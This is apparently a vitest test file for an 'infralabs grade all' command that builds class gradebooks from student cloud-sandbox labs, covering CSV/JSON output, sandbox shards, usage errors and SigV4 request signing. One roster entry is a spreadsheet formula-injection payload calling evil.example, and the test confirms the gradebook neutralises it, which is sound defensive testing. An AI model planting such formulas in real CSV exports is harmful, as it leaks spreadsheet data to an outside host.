// `infralabs grade all`: a gradebook of several students and labs, right to the point, and two
// shards, each student graded at their own sandbox. Against the real test sandbox (and a second
// one for the shards), with the labs' own solutions and wrong-answer fixtures.
import { createHash, createHmac } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
// The SDK's own SigV4 signer, to check the signatures a grade sends (as a classroom sandbox will).
import { SignatureV4 } from '@smithy/signature-v4';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandbox, type RunningSandbox } from '../../sandbox/sandbox.ts';
import { freshAccount, testEndpoint } from '../../test/sandbox-context.ts';
import { loadLab, projectRoot } from '../labs.ts';
import type { GradeReport } from '../report.ts';
import type { Io } from './io.ts';
import { main } from './main.ts';

const dir = mkdtempSync(join(tmpdir(), 'infralabs-grade-all-'));
const labDir = (id: string) => join(projectRoot, 'labs', id);

async function cli(argv: string[]) {
  let out = '';
  let err = '';
  const io: Io = { out: (t) => void (out += t), err: (t) => void (err += t), env: {}, cwd: dir };
  const code = await main(argv, io);
  return { code, out, err };
}

/** What a learner does: the lab's setup, then a script, in their account at their sandbox. */
async function solve(lab: string, script: string, account: string, endpoint = testEndpoint()) {
  expect(await cli(['setup', lab, '--endpoint', endpoint, '--account', account])).toMatchObject({ code: 0 });
  const run = await cli(['run', join(labDir(lab), script), '--endpoint', endpoint, '--account', account]);
  expect(run.code, run.out + run.err).toBe(0);
}

const secret = (n: number) => `${'s'.repeat(38)}${String(n).padStart(2, '0')}`;
function writeRoster(name: string, rows: [student: string, account: string, endpoint?: string][]): string {
  const withEndpoints = rows.some(([, , endpoint]) => endpoint !== undefined);
  const lines = [
    `student,account,secret${withEndpoints ? ',endpoint' : ''}`,
    `@teacher,${freshAccount()},${secret(99)}${withEndpoints ? ',' : ''}`,
    ...rows.map(([student, account, endpoint], i) => `"${student.replaceAll('"', '""')}",${account},${secret(i)}${withEndpoints ? `,${endpoint ?? ''}` : ''}`),
  ];
  writeFileSync(join(dir, name), `${lines.join('\n')}\n`);
  return name;
}

const maxOf = async (id: string) => (await loadLab(id)).lab.steps.flatMap((s) => s.checks);
const points = async (id: string, check: string) => (await maxOf(id)).find((c) => c.id === check)!.points;
const sum = (numbers: number[]) => numbers.reduce((a, b) => a + b, 0);

interface GradebookJson {
  labs: { id: string; maxScore: number }[];
  maxScore: number;
  students: { student: string; account: string; endpoint: string; score: number; maxScore: number; passed: boolean; labs: GradeReport[] }[];
}

describe('grade all: a gradebook of three students and two labs', () => {
  const alice = freshAccount();
  const bob = freshAccount();
  const carol = freshAccount();
  // A name a spreadsheet would run: the gradebook must neutralise it.
  const carolName = '=HYPERLINK("http://evil.example/?"&A1,"carol")';
  let roster: string;

  beforeAll(async () => {
    roster = writeRoster('class.csv', [['alice', alice], ['밥 (bob)', bob], [carolName, carol]]);
    // alice solves both labs; bob hands in a wrong answer to each (one check fails in each);
    // carol does nothing.
    await Promise.all([
      solve('ec2-launch', 'solution.ts', alice),
      solve('s3-backup', 'solution.ts', alice),
      solve('ec2-launch', 'fixtures/sg-in-default-vpc.ts', bob),
      solve('s3-backup', 'fixtures/log-versions.ts', bob),
    ]);
  }, 240_000);

  it('CSV: header, the Points Possible row, a row per student with each lab\'s score and the total', async () => {
    const ec2Max = sum((await maxOf('ec2-launch')).map((c) => c.points));
    const s3Max = sum((await maxOf('s3-backup')).map((c) => c.points));
    const bobEc2 = ec2Max - (await points('ec2-launch', 'sg-in-default-vpc'));
    const bobS3 = s3Max - (await points('s3-backup', 'log-versions'));
    expect(bobEc2).toBeLessThan(ec2Max);
    expect(bobS3).toBeLessThan(s3Max);

    const { code, out, err } = await cli(['grade', 'all', '--roster', roster, '--labs', 'ec2-launch,s3-backup', '--endpoint', testEndpoint(), '--concurrency', '3']);
    expect(err).toBe('');
    expect(code).toBe(1);
    expect(out).toBe(
      '\uFEFF' +
        'student,account,ec2-launch,s3-backup,total\n' +
        `Points Possible,,${ec2Max},${s3Max},${ec2Max + s3Max}\n` +
        `alice,${alice},${ec2Max},${s3Max},${ec2Max + s3Max}\n` +
        `밥 (bob),${bob},${bobEc2},${bobS3},${bobEc2 + bobS3}\n` +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""carol"")",${carol},0,0,0\n`,
    );
  });

  it('JSON: every check of every lab per student, the sums right', async () => {
    const { code, out } = await cli(['grade', 'all', '--roster', roster, '--labs', 's3-backup,ec2-launch', '--format', 'json', '--endpoint', testEndpoint()]);
    expect(code).toBe(1);
    const book = JSON.parse(out) as GradebookJson;
    const ec2 = await maxOf('ec2-launch');
    const s3 = await maxOf('s3-backup');
    expect(book.labs).toEqual([{ id: 's3-backup', maxScore: sum(s3.map((c) => c.points)) }, { id: 'ec2-launch', maxScore: sum(ec2.map((c) => c.points)) }]);
    expect(book.maxScore).toBe(sum([...s3, ...ec2].map((c) => c.points)));
    expect(book.students.map((s) => [s.student, s.account, s.endpoint])).toEqual([
      ['alice', alice, testEndpoint()],
      ['밥 (bob)', bob, testEndpoint()],
      [carolName, carol, testEndpoint()],
    ]);
    const failing: Record<string, string[]> = { alice: [], '밥 (bob)': ['log-versions', 'sg-in-default-vpc'], [carolName]: [...s3, ...ec2].map((c) => c.id) };
    for (const student of book.students) {
      expect(student.labs.map((r) => [r.lab, r.account])).toEqual([['s3-backup', student.account], ['ec2-launch', student.account]]);
      const checks = student.labs.flatMap((r) => r.checks);
      // Every check of both labs, each passed or failed as this student's state says, never "could not check".
      expect(checks.map((c) => c.id).sort()).toEqual([...s3, ...ec2].map((c) => c.id).sort());
      expect(checks.filter((c) => c.status !== 'pass').map((c) => c.id).sort()).toEqual(failing[student.student]!.sort());
      expect(checks.every((c) => c.status !== 'error')).toBe(true);
      for (const c of checks) expect(c.points).toBe(c.passed ? c.maxPoints : 0);
      for (const report of student.labs) expect(report.score).toBe(sum(report.checks.map((c) => c.points)));
      expect(student.score).toBe(sum(student.labs.map((r) => r.score)));
      expect(student.maxScore).toBe(book.maxScore);
      expect(student.passed).toBe(student.student === 'alice');
    }
  });

  it('exits 0 when every student passes every lab, and writes --output', async () => {
    const solved = writeRoster('alice.csv', [['alice', alice]]);
    const { code, out } = await cli(['grade', 'all', '--roster', solved, '--labs', 'ec2-launch', '--endpoint', testEndpoint(), '-o', 'book.csv']);
    expect(code).toBe(0);
    expect(out).toBe('');
  });

  it('grade <lab> --roster reads the class roster too (the teacher left out)', async () => {
    const { code, out } = await cli(['grade', 's3-backup', '--roster', roster, '--format', 'csv', '--endpoint', testEndpoint()]);
    expect(code).toBe(1);
    expect(out.trimEnd().split('\n').map((line) => line.split(',')[0])).toEqual(['student', 'alice', '밥 (bob)', '"\'=HYPERLINK(""http://evil.example/?""&A1']);
  });
});

describe('grade all: usage errors are one line, exit 2', () => {
  it.each([
    [['grade', 'all'], '`infralabs grade all` grades a class: pass --roster roster.csv (make one with `infralabs roster new names.txt > roster.csv`).'],
    [['grade', 'all', '--roster', 'x.csv', '--format', 'junit'], '`infralabs grade all` writes a gradebook: --format csv (default) or json, not junit.'],
    [['grade', 'all', '--roster', 'x.csv', '--labs', 'ec2-launch,,'], '--labs must be lab ids separated by commas, e.g. --labs ec2-launch,s3-backup (got "ec2-launch,,").'],
    [['grade', 'all', '--roster', 'x.csv', '--labs', 'no-such-lab'], /^labs\/no-such-lab: No lab "no-such-lab": choose one of /],
    [['grade', 'ec2-launch', '--labs', 's3-backup'], '--labs goes with `infralabs grade all`: to grade one lab, `infralabs grade ec2-launch` alone.'],
  ])('%j', async (argv, message) => {
    const { code, out, err } = await cli(argv as string[]);
    expect(code).toBe(2);
    expect(out).toBe('');
    expect(err.trimEnd().split('\n')).toHaveLength(1);
    if (typeof message === 'string') expect(err).toBe(`${message}\n`);
    else expect(err).toMatch(message);
  });

  it('names the shard it cannot reach', async () => {
    const roster = writeRoster('unreachable.csv', [['alice', freshAccount(), 'http://127.0.0.1:9'], ['bob', freshAccount()]]);
    const { code, err } = await cli(['grade', 'all', '--roster', roster, '--labs', 'ec2-launch', '--endpoint', testEndpoint()]);
    expect(code).toBe(2);
    expect(err).toBe('Cannot reach the sandbox at http://127.0.0.1:9: start it with `npm start` or `npx infralabs sandbox`.\n');
  });
});

describe('grade all: two shards, each student graded at their own sandbox', () => {
  let second: RunningSandbox;
  beforeAll(async () => {
    second = await startSandbox({ port: 0 });
  }, 120_000);
  afterAll(async () => {
    await second?.stop();
  });

  it('a student solved at their own shard passes; solved at the other shard only, scores 0; no endpoint: --endpoint', async () => {
    const [north, south, east, west] = [freshAccount(), freshAccount(), freshAccount(), freshAccount()];
    await Promise.all([
      solve('s3-backup', 'solution.ts', north, testEndpoint()),
      solve('s3-backup', 'solution.ts', south, second.endpoint),
      // east works on the second shard but solved the lab on the first: the second has nothing of it.
      solve('s3-backup', 'solution.ts', east, testEndpoint()),
      solve('s3-backup', 'solution.ts', west, second.endpoint),
    ]);
    const roster = writeRoster('shards.csv', [
      ['north', north, testEndpoint()],
      ['south', south, second.endpoint],
      ['east', east, second.endpoint],
      ['west', west],
    ]);
    const { code, out, err } = await cli(['grade', 'all', '--roster', roster, '--labs', 's3-backup', '--format', 'json', '--endpoint', second.endpoint]);
    expect(err).toBe('');
    expect(code).toBe(1);
    const book = JSON.parse(out) as GradebookJson;
    const max = book.maxScore;
    expect(max).toBeGreaterThan(0);
    expect(book.students.map((s) => [s.student, s.endpoint, s.score])).toEqual([
      ['north', testEndpoint(), max],
      ['south', second.endpoint, max],
      ['east', second.endpoint, 0],
      ['west', second.endpoint, max],
    ]);
  }, 240_000);
});

type SourceData = string | ArrayBuffer | ArrayBufferView;
const bytes = (data: SourceData) => (typeof data === 'string' ? data : ArrayBuffer.isView(data) ? new Uint8Array(data.buffer, data.byteOffset, data.byteLength) : new Uint8Array(data));

/** SHA-256 and HMAC for SignatureV4, from node:crypto. */
class Sha256 {
  private readonly hash;
  constructor(secret?: SourceData) {
    this.hash = secret === undefined ? createHash('sha256') : createHmac('sha256', bytes(secret));
  }
  update(data: SourceData) {
    this.hash.update(bytes(data));
  }
  async digest() {
    return new Uint8Array(this.hash.digest());
  }
}

/** A pass-through proxy to `target` that re-computes every request's SigV4 signature with the
 *  secret it holds for the request's access key id, and counts the matches and mismatches. */
async function signatureCheckingProxy(target: string, secrets: Map<string, string>) {
  const tally = { good: new Map<string, number>(), bad: new Map<string, number>() };
  const server: Server = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks);
    const match = /^AWS4-HMAC-SHA256 Credential=(\d{12})\/\d{8}\/([^/]+)\/([^/]+)\/aws4_request, SignedHeaders=([^,]+), Signature=([0-9a-f]{64})$/.exec(req.headers.authorization ?? '');
    const [, account = 'unsigned', region = '', service = '', signedHeaders = '', signature = ''] = match ?? [];
    const url = new URL(req.url!, 'http://proxy');
    const query: Record<string, string | string[]> = {};
    for (const [key, value] of url.searchParams) query[key] = key in query ? [query[key]!].flat().concat(value) : value;
    const headers = Object.fromEntries(signedHeaders.split(';').map((name) => [name, String(req.headers[name] ?? '')]));
    const date = String(req.headers['x-amz-date'] ?? '').replace(/^(\d{4})(\d\d)(\d\d)T(\d\d)(\d\d)(\d\d)Z$/, '$1-$2-$3T$4:$5:$6Z');
    const signer = new SignatureV4({ credentials: { accessKeyId: account, secretAccessKey: secrets.get(account) ?? 'not in the roster' }, region, service, sha256: Sha256, uriEscapePath: service !== 's3', applyChecksum: false });
    const expected = match
      ? await signer.sign({ method: req.method!, protocol: 'http:', hostname: 'localhost', path: url.pathname, query, headers, body: body.length ? body : undefined }, { signingDate: new Date(date) })
      : undefined;
    const good = expected !== undefined && String(expected.headers.authorization).endsWith(`Signature=${signature}`);
    // The gateway's own routes (its health check) are not AWS calls and carry no signature.
    if (!url.pathname.startsWith('/_infralabs/')) {
      const counts = good ? tally.good : tally.bad;
      counts.set(account, (counts.get(account) ?? 0) + 1);
    }
    const forward = request(new URL(req.url!, target), { method: req.method, headers: req.headers }, (answer) => {
      res.writeHead(answer.statusCode ?? 502, answer.headers);
      answer.pipe(res);
    });
    forward.on('error', () => res.destroy());
    forward.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { endpoint: `http://localhost:${(server.address() as AddressInfo).port}`, tally, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

describe("grade all signs each student's requests with that student's roster secret", () => {
  it('every request of every student verifies against their own secret, and a wrong secret would show', async () => {
    const [ana, ben] = [freshAccount(), freshAccount()];
    const roster = writeRoster('signed.csv', [['ana', ana], ['ben', ben]]);
    // writeRoster gives the students secret(0), secret(1) in roster order.
    const proxy = await signatureCheckingProxy(testEndpoint(), new Map([[ana, secret(0)], [ben, secret(1)]]));
    const wrong = await signatureCheckingProxy(testEndpoint(), new Map([[ana, secret(1)], [ben, secret(0)]]));
    try {
      expect((await cli(['grade', 'all', '--roster', roster, '--labs', 'ec2-launch,s3-backup', '--endpoint', proxy.endpoint])).err).toBe('');
      expect([...proxy.tally.bad]).toEqual([]);
      expect(proxy.tally.good.get(ana)).toBeGreaterThan(0);
      expect(proxy.tally.good.get(ben)).toBeGreaterThan(0);
      expect([...proxy.tally.good.keys()].sort()).toEqual([ana, ben].sort());

      await cli(['grade', 'all', '--roster', roster, '--labs', 'ec2-launch,s3-backup', '--endpoint', wrong.endpoint]);
      expect([...wrong.tally.good]).toEqual([]);
      expect([...wrong.tally.bad.keys()].sort()).toEqual([ana, ben].sort());
    } finally {
      await Promise.all([proxy.close(), wrong.close()]);
    }
  });
});
